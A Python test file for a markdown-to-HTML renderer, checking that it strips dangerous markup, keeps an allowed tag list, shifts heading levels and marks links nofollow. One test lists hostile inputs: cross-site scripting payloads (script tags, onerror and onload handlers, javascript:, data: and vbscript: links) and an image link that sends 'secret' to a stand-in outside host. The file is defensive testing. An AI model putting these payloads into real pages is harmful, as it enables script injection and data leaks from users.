"""Markdown of people and models: readable, and harmless."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from feedforward.ui.markdown import markdown_html


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![leak](https://elsewhere.example/?q=secret)",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,AAAA)",
        "<a href='javascript:alert(1)'>x</a>",
        "[x](vbscript:alert(1) 'title')",
        "<svg/onload=alert(1)>",
        "<style>*{display:none}</style>",
    ],
)
def test_hostile_markdown_runs_nothing_and_fetches_nothing(hostile: str) -> None:
    html = markdown_html(hostile)
    assert not re.search(r"<(script|img|svg|style|iframe)|<[^>]*\son|href=\"(javascript|data|vbscript)", html)


@given(st.text(st.sampled_from(list("<>\"'`[]()!#*_-&\n abjs:/=")), max_size=80))
def test_only_the_tags_on_the_list_come_out(text: str) -> None:
    tags = set(re.findall(r"<([a-z0-9]+)", markdown_html(text)))
    listed = "p br hr strong em s ul ol li blockquote code pre a h2 h3 h4 h5 h6 table thead tbody tr th td"
    assert tags <= set(listed.split())


def test_headings_stand_below_those_of_the_page() -> None:
    assert markdown_html("# Task\n\n###### Small") == "<h3>Task</h3>\n<h6>Small</h6>\n"


def test_the_highest_heading_has_the_level_that_is_asked_for_whatever_its_writer_began_with() -> None:
    assert markdown_html("## Task\n\n### Part") == "<h3>Task</h3>\n<h4>Part</h4>\n"
    assert markdown_html("## Account\n\n### Part", top=2) == "<h2>Account</h2>\n<h3>Part</h3>\n"


def test_links_tell_other_sites_nothing() -> None:
    assert 'rel="nofollow noopener"' in markdown_html("[guide](https://library.example/)")


def test_lists_and_emphasis_stay() -> None:
    assert markdown_html("- **one**\n- two") == "<ul>\n<li><strong>one</strong></li>\n<li>two</li>\n</ul>\n"
